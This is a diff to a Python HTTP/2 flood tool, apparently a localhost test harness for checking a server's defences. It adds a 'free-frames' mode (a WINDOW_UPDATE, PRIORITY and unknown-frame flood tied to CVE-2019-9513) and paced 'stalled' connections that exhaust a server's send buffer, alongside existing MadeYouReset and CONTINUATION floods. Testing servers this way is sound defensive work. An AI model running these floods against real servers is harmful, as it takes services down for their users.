@@ -18,11 +18,18 @@ Modes (what each connection sends after the preface and an empty SETTINGS):
   (CVE-2025-8671): GET / (END_STREAM) then a WINDOW_UPDATE overflowing the stream's window
   (FLOW_CONTROL_ERROR), and GET / with `content-length: 1` and END_STREAM (PROTOCOL_ERROR), in
   turn. Reads, and counts the server's RST_STREAMs.
-- stalled: never reads, with a 4 KiB receive buffer. The even connections send GET / on new
-  streams until the server stops taking them (its send buffer full); the odd ones first set
-  SETTINGS_INITIAL_WINDOW_SIZE to 0 and open 100 streams whose answers cannot be sent. Then each
-  only waits for the server to close it; the time from its last byte taken to that close is
-  measured.
+- stalled: never reads, with a 4 KiB receive buffer (and a 16 KiB send buffer, so that its sends
+  stop soon after the server stops reading). The even connections open the connection's window
+  to its maximum (so HTTP/2 flow control does not hold the answers back: they go to the socket),
+  then send GET / on new streams, 50 a millisecond (no more than the server's 100 streams at once
+  in one of its reads while it keeps up), until the server stops taking them (its send buffer
+  full, it reads no more); the odd ones set SETTINGS_INITIAL_WINDOW_SIZE to 0 and open 100
+  streams whose answers cannot be sent. Then each only waits for the server to close it; the
+  time from its last byte taken to that close is measured.
+- free-frames: valid frames that need no answer and that no budget counts, as fast as the
+  socket takes them: WINDOW_UPDATE of 1 on the connection, PRIORITY on an open stream, and a
+  frame of an unknown type (ignored by the protocol's rule), one kind per connection in turn
+  (CVE-2019-9513's resource loop, without the churn). Reads.
 
 A connection ends by the server's GOAWAY (its error code), its close (FIN) or reset (RST), or is
 still open at the end. One JSON document on stdout. Traffic only to 127.0.0.1.
@@ -38,8 +45,9 @@ import time
 
 HOST = "127.0.0.1"
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = \
-    0x0, 0x1, 0x3, 0x4, 0x6, 0x7, 0x8, 0x9
+DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = \
+    0x0, 0x1, 0x2, 0x3, 0x4, 0x6, 0x7, 0x8, 0x9
+UNKNOWN_TYPE = 0x20  # no frame type of RFC 9113 or its extensions: a receiver ignores it
 END_STREAM, END_HEADERS = 0x1, 0x4
 ERROR_NAMES = {0x0: "NO_ERROR", 0x1: "PROTOCOL_ERROR", 0x2: "INTERNAL_ERROR",
                0x3: "FLOW_CONTROL_ERROR", 0x4: "SETTINGS_TIMEOUT", 0x5: "STREAM_CLOSED",
@@ -57,6 +65,9 @@ EMPTY_PER_CHUNK = 1000
 LAST_STREAM_ID = MAX_WINDOW - 2 * FRAMES_PER_CHUNK
 WINDOW_ZERO_STREAMS = 100
 SMALL_RECEIVE_BUFFER = 4096
+SMALL_SEND_BUFFER = 16384
+PACED_STREAMS, PACE_S = 50, 0.001  # stalled, even connections: 50 requests a millisecond
+STALLED_CYCLE_S = 5.0
 STALL_S = 0.5          # stalled: no byte taken for this long means the server stopped reading
 DRAIN_BYTES = 64 << 20  # what is read, at most, after a close that was not read as it came
 CONNECT_TIMEOUT_S = 5.0
@@ -154,6 +165,20 @@ def empty_frames(index):
         yield chunk, EMPTY_PER_CHUNK
 
 
+def free_frames(index):
+    kind = index % 3
+    if kind == 0:
+        one = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))  # 2^31 of them before overflow
+    elif kind == 1:
+        yield frame(HEADERS, END_HEADERS, 1, POST_ROOT), 1  # a request whose body never comes
+        one = frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 15))  # on the root, weight 16
+    else:
+        one = frame(UNKNOWN_TYPE, 0, 0)
+    chunk = one * EMPTY_PER_CHUNK
+    while True:
+        yield chunk, EMPTY_PER_CHUNK
+
+
 def made_you_reset(index):
     streams = Streams()
     overflow = struct.pack(">I", MAX_WINDOW)
@@ -175,9 +200,10 @@ def stalled(index):
         yield b"".join(frame(HEADERS, END_STREAM | END_HEADERS, streams.take(), GET_ROOT)
                        for _ in range(WINDOW_ZERO_STREAMS)), WINDOW_ZERO_STREAMS
         return
+    yield frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", MAX_WINDOW - 65535)), 1
     while streams.next_id < LAST_STREAM_ID:
         yield b"".join(frame(HEADERS, END_STREAM | END_HEADERS, streams.take(), GET_ROOT)
-                       for _ in range(FRAMES_PER_CHUNK)), FRAMES_PER_CHUNK
+                       for _ in range(PACED_STREAMS)), PACED_STREAMS
 
 
 # The modes whose even and odd connections send different floods: their names, even first.
@@ -185,6 +211,7 @@ VARIANTS = {
     "continuation": ("small-fields", "endless-value"),
     "empty-frames": ("empty-data", "empty-continuation"),
     "stalled": ("unread", "window-0"),
+    "free-frames": ("window-update", "priority", "unknown-type"),
 }
 # mode: (chunks, reads what the server sends as it comes)
 MODES = {
@@ -195,6 +222,7 @@ MODES = {
     "empty-frames": (empty_frames, True),
     "made-you-reset": (made_you_reset, True),
     "stalled": (stalled, False),
+    "free-frames": (free_frames, True),
 }
 
 
@@ -242,10 +270,11 @@ class Connection:
     """One attacking connection: the mode's chunks out, the server's frames in (as they come, or
     only once it has ended the connection), and how it ended."""
 
-    def __init__(self, port, chunks, reads, small_buffer):
+    def __init__(self, port, chunks, reads, small_buffer, pace_s=0.0):
         self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
         if small_buffer:
             self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, SMALL_RECEIVE_BUFFER)
+            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, SMALL_SEND_BUFFER)
         self.sock.settimeout(CONNECT_TIMEOUT_S)
         try:
             self.sock.connect((HOST, port))
@@ -260,6 +289,7 @@ class Connection:
         self.frames = self.sent = 0
         self.opened = self.last_taken = time.monotonic()
         self.done_sending = False
+        self.pace_s, self.next_chunk_at = pace_s, 0.0  # a chunk at most every pace_s
         self.ended = self.ended_at = None
         self.reader = FrameReader()
         self.variant = None
@@ -268,15 +298,20 @@ class Connection:
         wanted = select.POLLRDHUP
         if self.reads:
             wanted |= select.POLLIN
-        if not self.done_sending:
+        if not self.done_sending and (self.pending or self.pacing_over()):
             wanted |= select.POLLOUT
         return wanted
+
+    def pacing_over(self):
+        return time.monotonic() >= self.next_chunk_at
 
     def send_some(self, budget):
         """Sends up to `budget` bytes; returns the frames whose chunk went out whole."""
         before = self.frames
         while budget > 0 and not self.done_sending:
             if not self.pending:
+                if not self.pacing_over():
+                    break
                 try:
                     chunk, count = next(self.chunks)
                 except StopIteration:
@@ -296,6 +331,8 @@ class Connection:
             self.pending = self.pending[taken:]
             if not self.pending:
                 self.frames += self.pending_frames
+                if self.pace_s:
+                    self.next_chunk_at = self.last_taken + self.pace_s
         return self.frames - before
 
     def read_some(self):
@@ -357,9 +394,10 @@ class Attack:
     def open(self, slot):
         if self.opened >= self.options.max_connections:
             return
+        paced = self.options.mode == "stalled" and slot % 2 == 0
         try:
             connection = Connection(self.options.port, self.chunks(slot), self.reads,
-                                    self.small_buffer)
+                                    self.small_buffer, PACE_S if paced else 0.0)
         except OSError as error:
             if len(self.errors) < 10:
                 self.errors.append(f"connect: {error}")
@@ -377,6 +415,11 @@ class Attack:
         self.poller.unregister(connection.fd)
         connection.end("open")  # no-op for one the server ended
         self.finished.append(connection)
+
+    def reopen_margin(self, slot):
+        """stalled mode, even slots: no new connection in the flood's last STALLED_CYCLE_S, the
+        time one takes to fill the server's buffers and be closed at its idle timeout."""
+        return STALLED_CYCLE_S if self.options.mode == "stalled" and slot % 2 == 0 else 0.0
 
     def stalled(self, connection, now):
         """stalled mode: nothing more is sent once the server takes no byte for STALL_S."""
@@ -402,8 +445,12 @@ class Attack:
         while time.monotonic() < deadline:
             self.turn(deadline)
         # The grace: nothing more is sent, and the server may still end what it has not ended.
+        # A stalled connection still sending goes on until the server stops taking its bytes: one
+        # that stopped first would wait, unread, for an end its closed window could not bring
+        # (the server's FIN queued behind answers the client never reads).
         for connection in filter(None, self.slots):
-            connection.done_sending = True
+            if not connection.pace_s:
+                connection.done_sending = True
         grace_end = time.monotonic() + self.options.grace
         while any(self.slots) and time.monotonic() < grace_end:
             self.turn(deadline)
@@ -414,20 +461,21 @@ class Attack:
     def turn(self, deadline):
         """One poll: sends, reads, ends; reopens an ended connection's slot before the deadline."""
         by_fd = {c.fd: (slot, c) for slot, c in enumerate(self.slots) if c}
-        for fd, revents in self.poller.poll(50):
+        pacing = any(c.pace_s and not c.done_sending for _, c in by_fd.values())
+        for fd, revents in self.poller.poll(1 if pacing else 50):
             slot, connection = by_fd[fd]
             self.step(slot, connection, revents)
         now = time.monotonic()
         for slot, connection in enumerate(self.slots):
             if connection is None:
-                if now < deadline:
+                if now < deadline - self.reopen_margin(slot):
                     self.open(slot)
                 continue
             if self.stalled(connection, now) or self.frames >= self.options.max_frames:
                 connection.done_sending = True
             if connection.ended is not None:
                 self.retire(slot)
-                if now < deadline:
+                if now < deadline - self.reopen_margin(slot):
                     self.open(slot)
             else:
                 self.poller.modify(connection.fd, connection.events())
